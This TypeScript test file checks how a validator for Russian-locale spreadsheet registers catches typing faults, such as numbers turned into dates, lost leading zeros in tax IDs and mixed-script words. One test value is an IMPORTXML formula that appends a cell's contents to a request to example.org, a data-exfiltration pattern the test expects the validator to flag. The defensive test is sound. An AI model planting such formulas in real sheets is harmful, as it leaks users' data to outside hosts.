/** Faults of cells that come about by typing: what a Russian sheet makes of a text, what is marked, what the gate reads. */
import { describe, expect, it } from 'vitest';
import { columnLetters, quoteTitle } from '../../domain/a1.ts';
import type { Mark } from '../../domain/marks.ts';
import type { Problem } from '../../domain/problem.ts';
import { type RegisterTableKey, TABLES } from '../../domain/workbook.ts';
import { readRegion } from '../../functions/read-region.ts';
import { contextOf, declaredCluster, jointProject, participant, rawWorkbook, tableOf } from '../domain/rows.ts';
import { latest, newWorkbook, post, type RunningSvod, refreshOverHttp, runSvod } from '../local/running-svod.ts';
import { toldAt } from './cell-fault.ts';
import { batchUpdate, fillWorkbook, sheetIdOf, valuesOf } from './filled-workbook.ts';

const AS_TEXT = 'Задайте столбцу формат «Обычный текст» (Формат → Числа) и введите код снова.';
const WRITE_A_NUMBER = 'Введите число через запятую (1,5, а не 1.5) и задайте ячейке формат «Число».';
const WRITE_DIGITS = 'Введите число цифрами, дробную часть через запятую: 1234,5.';
const WRITE_A_DATE = 'Введите дату как день.месяц.год: 01.03.2024.';
const NOT_TEXT = 'Вместо кода в ячейке число или дата: таблица могла изменить то, что было введено.';

interface Typed {
  readonly name: string;
  readonly table: RegisterTableKey;
  readonly column: string;
  readonly text: string;
  /** Whether somebody took the cell's format away before. */
  readonly isUnformatted?: true;
  /** What the sheet keeps. */
  readonly holds: unknown;
  readonly code?: string;
  readonly sentence?: string;
  readonly remedy?: string;
}

/** A fault, as it is typed; the code, the sentence and the remedy where something is to be said. */
function typed(
  name: string,
  [table, column]: readonly [RegisterTableKey, string],
  text: string,
  holds: unknown,
  ...[code, sentence, remedy]: readonly string[]
): Typed {
  return { name, table, column, text, holds, ...(code && sentence && remedy && { code, sentence, remedy }) };
}

function unformatted(one: Typed): Typed {
  return { ...one, isUnformatted: true };
}

const COST = ['jointProjects', 'costRubles'] as const;
const JOBS = ['jointProjects', 'newJobs'] as const;
const STATUS_DATE = ['clusters', 'statusDate'] as const;
const NAME = ['participants', 'name'] as const;
const TAX_ID = ['participants', 'taxId'] as const;
const ACTIVITY = ['participants', 'activityCode'] as const;
const IMPORT = '=IMPORTXML("https://example.org/?"&B2;"//a")';

const TYPED: readonly Typed[] = [
  typed('C01 a number with a space', COST, '1 234,5', 1234.5),
  typed('C01 a number with U+00A0', JOBS, '1\u00A0234', 1234),
  typed(
    'C02 a number that reads in two ways',
    COST,
    '1,234.5',
    '1,234.5',
    'AMBIGUOUS_NUMBER',
    '«1,234.5» можно прочитать по-разному: непонятно, где дробная часть.',
    'Оставьте одну запятую перед дробной частью: 1234,5.',
  ),
  typed(
    'C03 1.5 becomes 1 May',
    COST,
    '1.5',
    46_143,
    'DATE_FOR_NUMBER',
    'В ячейке дата 01.05.2026, а нужно число.',
    WRITE_A_NUMBER,
  ),
  typed(
    'C03 20.5 becomes 20 May',
    JOBS,
    '20.5',
    46_162,
    'DATE_FOR_NUMBER',
    'В ячейке дата 20.05.2026, а нужно число.',
    WRITE_A_NUMBER,
  ),
  typed(
    'C05 a day that does not exist',
    STATUS_DATE,
    '31.02.2026',
    '31.02.2026',
    'NOT_A_DATE',
    '«31.02.2026» — это не дата.',
    WRITE_A_DATE,
  ),
  typed('C05 a year of two digits, which the sheet completes', STATUS_DATE, '01.03.24', 45_352),
  typed('C06 a date with an hour', STATUS_DATE, '01.03.2024 23:59', 45_352 + 1439 / 1440),
  typed('C07 a truth in Russian', COST, 'ИСТИНА', true, 'NOT_A_NUMBER', '«TRUE» — это не число.', WRITE_DIGITS),
  typed(
    'C09 an error in Russian',
    COST,
    '#Н/Д',
    '#Н/Д',
    'ERROR_VALUE',
    'В ячейке ошибка «#Н/Д» вместо значения.',
    'Введите само значение.',
  ),
  typed(
    'C10 a formula that fetches',
    COST,
    IMPORT,
    IMPORT,
    'FORMULA',
    'В ячейке формула, а нужно значение.',
    'Введите само значение вместо формулы.',
  ),
  typed(
    'C12 a number in brackets, which the sheet takes for a negative one',
    COST,
    '(5)',
    -5,
    'NEGATIVE',
    'Число -5 отрицательное, а нужно 0 или больше.',
    'Исправьте число.',
  ),
  typed('C13 digits of another script', JOBS, '١٢٣', '١٢٣', 'NOT_A_NUMBER', '«١٢٣» — это не число.', WRITE_DIGITS),
  typed('C13 a hexadecimal number', JOBS, '0x10', '0x10', 'NOT_A_NUMBER', '«0x10» — это не число.', WRITE_DIGITS),
  typed('C14 half a job', JOBS, '1,5', 1.5, 'NOT_WHOLE', 'Число 1,5 дробное, а нужно целое.', 'Введите целое число.'),
  typed('C18 an ИНН with its zero, in a column of text', TAX_ID, '0105000015', '0105000015'),
  unformatted(
    typed(
      'C18 an ИНН that loses its zero',
      TAX_ID,
      '0105000015',
      105_000_015,
      'LOST_LEADING_ZERO',
      'В ИНН 9 цифр: пропал ведущий ноль. Вероятно, это 0105000015.',
      AS_TEXT,
    ),
  ),
  typed(
    'C19 a Latin letter in a Russian word',
    NAME,
    'Завод КAМАЗ',
    'Завод КAМАЗ',
    'MIXED_SCRIPT',
    'В слове «КAМАЗ» смешаны русские и латинские буквы.',
    'Если это не так задумано, наберите слово заново.',
  ),
  typed('C22 an activity like a date, in a column of text', ACTIVITY, '01.1', '01.1'),
  unformatted(
    typed('C22 an activity that becomes 1 January', ACTIVITY, '01.1', 46_023, 'CODE_NOT_TEXT', NOT_TEXT, AS_TEXT),
  ),
  unformatted(
    typed('C22 an activity that becomes a number', ACTIVITY, '20.15', 20.15, 'CODE_NOT_TEXT', NOT_TEXT, AS_TEXT),
  ),
];

interface Outcome {
  readonly cell: string;
  readonly holds: unknown;
  readonly marks: readonly Mark[];
  readonly problems: readonly Problem[];
}

function columnOf({ table, column }: Typed): number {
  return tableOf(table).columnKeys.indexOf(column);
}

async function takeFormatAway(svod: RunningSvod, id: string, one: Typed, row: number): Promise<void> {
  const start = {
    sheetId: await sheetIdOf(svod, id, TABLES[one.table].title),
    rowIndex: row - 1,
    columnIndex: columnOf(one),
  };
  await batchUpdate(svod, id, { updateCells: { start, rows: [{ values: [{}] }], fields: 'userEnteredFormat' } });
}

/** Each is typed into a row of its own, which holds nothing else. */
async function typeAll(): Promise<readonly Outcome[]> {
  const svod = await runSvod();
  const id = await newWorkbook(svod, '59');
  const marked: Omit<Outcome, 'problems'>[] = [];
  for (const [index, one] of TYPED.entries()) {
    const cell = `${quoteTitle(TABLES[one.table].title)}!${columnLetters(columnOf(one))}${index + 2}`;
    if (one.isUnformatted) await takeFormatAway(svod, id, one, index + 2);
    const { body } = await post(`${svod.url}/local/edit`, { spreadsheetId: id, range: cell, values: [[one.text]] });
    marked.push({ cell, holds: (await valuesOf(svod, id, cell))[0]?.[0], marks: (body as { marks: Mark[] }).marks });
  }
  const { problems } = await readRegion(
    svod.google,
    { region: '59', spreadsheetId: id, epoch: 1, confirmedOn: null },
    contextOf(),
  );
  return marked.map((outcome, index) => {
    const own = problems.filter(({ place }) => place.row === index + 2 && place.column === TYPED[index]?.column);
    return { ...outcome, problems: own };
  });
}

let typing: Promise<readonly Outcome[]> | undefined;

describe('what is typed', () => {
  it.each(TYPED.map((one, index) => [one.name, one, index] as const))('%s', async (_name, one, index) => {
    typing ??= typeAll();
    const outcome = (await typing)[index];
    const { code, sentence, remedy } = one;
    expect(outcome?.holds).toEqual(one.holds);
    expect(outcome?.problems.map(toldAt)).toMatchObject(code ? [{ code, sentence, remedy }] : []);
    const marks = code ? [{ cell: outcome?.cell, note: `${sentence} ${remedy}` }] : [];
    expect(outcome?.marks).toMatchObject(marks);
  });

  it('S15 gives the same codes as what a program wrote', async () => {
    const book = {
      clusters: [declaredCluster({ industry: 'Литьё', statusDate: '31.02.2026' })],
      participants: [participant({ taxId: '7707083894', name: 'ИП Пример', activityCode: '04.10' })],
      jointProjects: [jointProject({ costRubles: '1,234.5', newJobs: 1.5 })],
    };
    const codes = async (fill: (svod: RunningSvod, id: string) => Promise<void>) => {
      const svod = await runSvod();
      await fill(svod, await newWorkbook(svod, '59'));
      await refreshOverHttp(svod);
      return (await latest(svod)).rows;
    };
    const written = await codes((svod, id) => fillWorkbook(svod, id, rawWorkbook(book)));
    const byHand = await codes(async ({ url }, spreadsheetId) => {
      for (const key of ['clusters', 'participants', 'jointProjects'] as const) {
        const values = rawWorkbook(book)[key].slice(1);
        await post(`${url}/local/edit`, { spreadsheetId, range: `${TABLES[key].title}!A2`, values });
      }
    });
    expect(byHand).toEqual(written);
    expect(Object.keys(written.byCode)).toEqual([
      'ACTIVITY_CLASS_UNKNOWN',
      'AMBIGUOUS_NUMBER',
      'INN_CHECKSUM',
      'NOT_A_DATE',
      'NOT_IN_LIST',
      'NOT_WHOLE',
      'PARENT_SET_ASIDE',
      'PERSONAL_DATA',
    ]);
  });
});
